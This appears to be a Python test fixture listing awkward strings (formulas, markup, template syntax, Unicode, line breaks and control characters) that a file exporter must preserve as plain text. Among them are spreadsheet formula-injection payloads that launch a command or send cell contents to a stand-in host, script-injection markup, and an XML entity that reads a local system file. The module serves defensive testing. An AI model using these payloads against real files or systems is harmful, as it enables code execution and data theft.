"""Texts that have broken somebody's file: each may be typed by a person, and each must leave as the text that it is."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Open")',
    '+SUM(1,1)*WEBSERVICE("http://192.0.2.1/")',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "{=1+1}",
)
MARKUP = (
    "<script>alert(1)</script>",
    '<img src="file:///etc/passwd" onerror=alert(1)>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/x.svg"/><script>1</script></svg>',
    '<link rel="stylesheet" href="http://192.0.2.1/x.css"><style>@import url(http://192.0.2.1/y.css)</style>',
    '"><a href="javascript:alert(1)">x</a>',
    "background:url(file:///etc/hostname)",
    "http://192.0.2.1/x.png",
    "file:///etc/hostname",
    "</td></tr></table></w:t></w:r></w:p><w:p/>",
    "]]><!-- <![CDATA[ x ]]> -->",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "&lt;b&gt; &amp;amp; &#60; &nbsp; &nothing;",
    "<?xml version='1.0'?>",
)
TEMPLATES = (
    "{{ report }} {{ 7*7 }}",
    "{% include 'x' %}{# y #}",
    "${7*7} #{7*7} %(x)s %s {0}",
    "&P &N &G &[Tab]",
    "_x0041_ _x000D_",
)
LETTERS = (
    "O'Brien & Søn – café, £5, naïve, “quoted” …",
    "\u202eright to left\u202c and \u200fmarks\u200e",
    "مرحبا שלום 你好 ภาษาไทย",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 flag \U0001f3f4 \U0001f642",
    "combining e\u0301 a\u0308, zero\u200bwidth, no\u00a0break, soft\u00adhyphen",
    "x" * 600,
    "null NULL None NaN true 1e9 0012 1/2 12:30",
    "back\\slash \\n 'quotes' \"double\", semi;colon",
)
LINES = ("first\nsecond\r\nthird\rfourth", "\n\nafter two empty lines", "ends with a tab\t")
CONTROL = ("bell \x07 escape \x1b[31m vertical \x0b form \x0c delete \x7f", "next \x85 line \x9f", "\ufffe and \uffff")
TEXTS = (*FORMULAS, *MARKUP, *TEMPLATES, *LETTERS, *LINES, *CONTROL)
NUL = "before\x00after"
"""PostgreSQL takes no such character."""
